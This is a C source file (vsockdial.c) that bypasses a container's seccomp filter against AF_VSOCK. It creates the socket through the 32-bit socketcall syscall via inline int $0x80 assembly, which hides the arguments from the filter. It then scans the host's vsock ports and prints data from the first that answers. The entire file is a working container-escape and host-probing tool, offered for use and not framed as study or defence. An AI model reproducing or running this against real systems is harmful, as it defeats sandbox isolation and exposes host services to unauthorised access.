/* SPDX-License-Identifier: Apache-2.0 */
/*
 * vsockdial.c - dials the host's ports [first, first + n) in turn until it was given something to read, or `tries` are over. For a container
 * whose filter refuses AF_VSOCK: the socket is made by the 32-bit socketcall(2), whose arguments no filter sees.
 */
#define _GNU_SOURCE
#include <linux/vm_sockets.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

#define I386_SOCKETCALL 102L
#define I386_SOCKET     1L

static long make_socket(uint32_t *args)
{
	long fd;

	args[0] = AF_VSOCK;
	args[1] = SOCK_STREAM;
	args[2] = 0;
	__asm__ volatile("int $0x80"
			 : "=a"(fd)
			 : "0"(I386_SOCKETCALL), "b"(I386_SOCKET), "c"(args)
			 : "memory", "r8", "r9", "r10", "r11");
	return fd;
}

int main(int argc, char **argv)
{
	uint32_t *args = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			      MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	unsigned first = argc > 3 ? (unsigned)atoi(argv[1]) : 0,
		 n = argc > 3 ? (unsigned)atoi(argv[2]) : 1;
	unsigned tries = argc > 3 ? (unsigned)atoi(argv[3]) : 0, i;

	if (args == MAP_FAILED)
		return 1;
	for (i = 0; i < tries; i++) {
		struct sockaddr_vm sa = {.svm_family = AF_VSOCK,
					 .svm_cid = VMADDR_CID_HOST,
					 .svm_port = first + i % n};
		int fd = (int)make_socket(args);
		char got[256];
		ssize_t len;

		if (fd < 0) {
			printf("no socket: %d\n", fd);
			return 1;
		}
		if (!connect(fd, (struct sockaddr *)&sa, sizeof(sa))) {
			len = read(fd, got, sizeof(got));
			printf("port %u is ours: %.*s\n", sa.svm_port, len > 0 ? (int)len : 0, got);
			return 0;
		}
		close(fd);
	}
	printf("nothing in %u tries\n", tries);
	return 0;
}
